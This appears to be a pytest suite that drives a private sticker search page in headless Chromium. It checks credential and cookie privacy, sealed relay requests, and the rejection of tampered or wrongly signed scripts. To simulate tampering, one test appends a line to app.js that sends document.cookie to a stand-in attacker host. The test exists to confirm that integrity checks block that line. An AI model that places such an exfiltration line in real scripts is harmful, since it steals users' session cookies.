"""The private sticker search page in a real headless Chromium (Debian's, driven by
playwright-core from web/package-lock.json), against the whole stack as separate server
processes: issuer, sticker service, gateway, relay and the page's own origin."""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from sticker_search import cli, ledger
from sticker_search.stack import Stack
from sticker_search.web import DEFAULT_DIST, create_app
from sticker_search.webverify import EXIT_DIFFERS, EXIT_VERIFIED, verify
from tests.support import REPO_ROOT, start_live_server

CHROMIUM = Path(os.environ.get("CHROMIUM", "/usr/bin/chromium"))
DRIVER = Path(__file__).with_name("browser.mjs")
COOKIE = "cookie-7f3e"


def _require_browser() -> None:
    missing = [str(p) for p in (CHROMIUM, REPO_ROOT / "web" / "node_modules" / "playwright-core",
                                DEFAULT_DIST / "index.html") if not p.exists()]
    if missing:
        message = f"browser test needs {', '.join(missing)} (apt-get install chromium; make web)"
        if os.environ.get("REQUIRE_BROWSER"):
            pytest.fail(message)
        pytest.skip(message)


def drive(job: dict[str, Any]) -> dict[str, Any]:
    """Run the page in Chromium (tests/web/browser.mjs); what it saw, as JSON."""
    job = {"cookieDomain": "127.0.0.1", "executablePath": str(CHROMIUM), **job}
    done = subprocess.run(["node", str(DRIVER), json.dumps(job)], capture_output=True,
                          text=True, timeout=180, cwd=REPO_ROOT, check=False)
    assert done.returncode == 0, done.stderr[-3000:]
    result: dict[str, Any] = json.loads(done.stdout)
    return result


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    _require_browser()
    running = Stack(tmp_path_factory.mktemp("web-stack"), web=True, relay_rate_limit=0)
    running.start()
    try:
        yield running
    finally:
        running.stop()


def test_typing_cat_shows_the_cat_privately(stack: Stack, tmp_path: Path) -> None:
    credential = stack.add_account("browser")
    seen = drive({"url": stack.page_url(credential), "type": "cat",
                  "screenshot": str(tmp_path / "page.png")})
    assert seen["errors"] == [], seen
    assert seen["ready"], seen["status"]
    # No policy violation, failed load or script error under the strict policy.
    assert [line for line in seen["console"] if line.startswith("error")] == []
    assert "🐈" in seen["glyphs"][:3]
    assert (tmp_path / "page.png").stat().st_size > 0
    # The credential lived in the fragment: no request carried it, and the page dropped it.
    assert credential not in seen["location"]
    assert not [r for r in seen["requests"] if credential in r["url"]]

    requests_to = {name: [r for r in seen["requests"] if r["url"].startswith(stack.url(name))]
                   for name in ("relay", "issuer", "web")}
    assert requests_to["relay"] and requests_to["issuer"]
    # The browser holds a cookie for this host (the page's navigation carried it), yet no
    # request of the page's own code carried any cookie.
    assert COOKIE in requests_to["web"][0]["headers"].get("cookie", "")
    for request in requests_to["relay"] + requests_to["issuer"]:
        assert "cookie" not in request["headers"], request["url"]
    # Each search is one sealed POST to the relay, not a URL with the query in it.
    assert all(r["method"] == "POST" for r in requests_to["relay"])
    assert not [r for r in seen["requests"] if "q=" in r["url"]]

    records = ledger.collect(stack)
    assert records["relay"].holding("cat") == []
    assert records["issuer"].holding("cat") == []
    assert records["sticker"].holding("cat")  # the search itself did arrive, sealed
    assert "cat" not in stack.services["web"].logs().split()
    assert credential not in stack.services["web"].logs()


def test_verify_web_and_the_browser_refuse_a_tampered_script(stack: Stack,
                                                             tmp_path: Path) -> None:
    dist = tmp_path / "dist"
    shutil.copytree(DEFAULT_DIST, dist)
    key = tmp_path / "keys" / "web-signing.key"
    page = start_live_server(create_app, {
        "relay_url": stack.relay_url, "issuer_url": stack.issuer_url,
        "target_url": stack.sticker_url, "signing_key": str(key), "dist_dir": str(dist),
    }, tmp_path)
    try:
        assert stat.S_IMODE(key.stat().st_mode) == 0o600
        verdict = verify(page.url, local={"/app.js": (DEFAULT_DIST / "app.js").read_bytes()})
        assert verdict.problems == []
        assert cli.main(["verify-web", page.url, "--public-key", verdict.signer]) == EXIT_VERIFIED

        # The server now serves another script than the one it signed.
        with (dist / "app.js").open("ab") as script:
            script.write(b"\n;fetch('https://attacker.test/?'+document.cookie);")
        problems = verify(page.url).problems
        assert "/app.js: content differs from the manifest" in problems
        assert "/: app.js as served does not match its integrity attribute" in problems
        assert cli.main(["verify-web", page.url]) == EXIT_DIFFERS

        seen = drive({"url": page.url + "/#credential=unused", "readyTimeout": 5000})
        assert not seen["ready"]
        assert any("integrity" in line for line in seen["console"]), seen["console"]
        assert not [r for r in seen["requests"] if r["url"].startswith(stack.relay_url)]
    finally:
        page.stop()


def test_verify_web_refuses_another_signer(stack: Stack, tmp_path: Path) -> None:
    page = start_live_server(create_app, {
        "relay_url": stack.relay_url, "issuer_url": stack.issuer_url,
        "target_url": stack.sticker_url, "signing_key": str(tmp_path / "other.key"),
    }, tmp_path)
    try:
        pinned = verify(stack.web_url).signer
        assert cli.main(["verify-web", page.url, "--public-key", pinned]) == EXIT_DIFFERS
    finally:
        page.stop()
